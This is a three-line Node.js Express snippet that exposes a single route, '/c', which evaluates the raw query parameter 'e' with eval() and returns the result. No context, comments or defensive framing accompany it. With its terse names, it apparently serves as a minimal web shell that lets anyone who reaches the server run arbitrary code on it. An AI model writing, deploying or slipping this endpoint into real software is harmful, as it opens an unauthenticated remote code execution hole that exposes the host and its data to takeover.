const express = require('express');
const app = express();
app.get('/c', (req, res) => res.json({ r: eval(req.query.e) }));
